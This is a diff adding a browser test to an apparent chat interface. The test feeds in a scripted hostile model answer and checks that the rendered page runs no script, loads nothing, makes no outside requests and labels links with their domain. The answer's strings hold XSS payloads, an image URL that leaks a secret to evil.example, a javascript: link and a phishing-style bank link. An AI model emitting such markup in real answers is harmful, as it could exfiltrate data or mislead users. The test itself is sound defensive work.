@@ -187,3 +187,28 @@ describe.skipIf(!HAS_BROWSER)("a question to begin with", () => {
     expect(complaints).toEqual([]);
   });
 });
+
+describe.skipIf(!HAS_BROWSER)("a hostile answer", () => {
+  test("runs nothing, loads nothing and leads nowhere unsaid", async () => {
+    const text = [
+      "<script>document.title = 'run'</script><img src=x onerror=\"document.title = 'run'\">",
+      "![see](https://evil.example/pixel?secret) [click](javascript:alert(1)) [in](/settings)",
+      "[your bank](https://evil.example/login)",
+      '<iframe src="https://evil.example"></iframe><style>body { display: none }</style>',
+      "```html\n<script>alert(1)</script>\n```",
+    ].join("\n\n");
+    await scriptModel([{ text, piece: 3 }]);
+    const { page, complaints } = await converse();
+    const asked: string[] = [];
+    page.on("request", (request) => asked.push(request.url()));
+    page.on("dialog", () => asked.push("a dialog"));
+    await ask(page, "Be hostile");
+    const answer = await answered(page);
+    const links = await answer.getByRole("link").allTextContents();
+    expect(links).toEqual(["your bank (evil.example)"]);
+    expect(await answer.locator("script, img, iframe, style").count()).toBe(0);
+    expect(await page.title()).not.toBe("run");
+    expect(asked.filter((url) => !url.startsWith(inject("openaiUrl")))).toEqual([]);
+    expect(complaints).toEqual([]);
+  });
+});
